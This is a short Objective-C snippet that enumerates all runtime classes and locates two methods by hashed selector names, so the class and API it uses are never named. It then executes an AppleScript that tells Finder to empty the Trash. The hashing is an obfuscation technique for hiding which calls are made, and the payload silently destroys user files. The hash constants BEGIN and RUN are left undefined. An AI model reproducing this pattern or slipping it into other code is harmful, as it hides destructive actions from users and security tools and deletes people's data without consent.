/* Goes through all classes until one has two methods of the right sums; it needs no name at all. */
#include "objc.h"
extern Class *objc_copyClassList(unsigned *);
extern void **class_copyMethodList(Class, unsigned *);
extern SEL method_getName(void *);
extern void *method_getImplementation(void *);
extern const char *sel_getName(SEL);
extern id class_createInstance(Class, unsigned long);
extern void free(void *);
typedef id (*method)(id, SEL, id);
struct found { method call; SEL name; };
static unsigned sum(const char *c) {
    unsigned h = 7;
    for (; *c; c++) h = (h << 7 | h >> 25) + (*c ^ 0x5c) * 0x01000193;
    return h;
}
static void act(char **env) {
    static const unsigned wanted[] = {BEGIN, RUN};
    unsigned classes, methods;
    Class *all = objc_copyClassList(&classes);
    while (classes--) {
        struct found f[2] = {};
        void **list = class_copyMethodList(all[classes], &methods);
        for (unsigned m = 0; m < methods; m++)
            for (int i = 0; i < 2; i++)
                if (sum(sel_getName(method_getName(list[m]))) == wanted[i]) f[i] = (struct found){(method)method_getImplementation(list[m]), method_getName(list[m])};
        free(list);
        if (!f[0].call || !f[1].call) continue;
        id made = f[0].call(class_createInstance(all[classes], 0), f[0].name, [NSString stringWithUTF8String:"tell application \"Finder\" to empty trash"]);
        f[1].call(made, f[1].name, 0);
        break;
    }
    free(all);
}
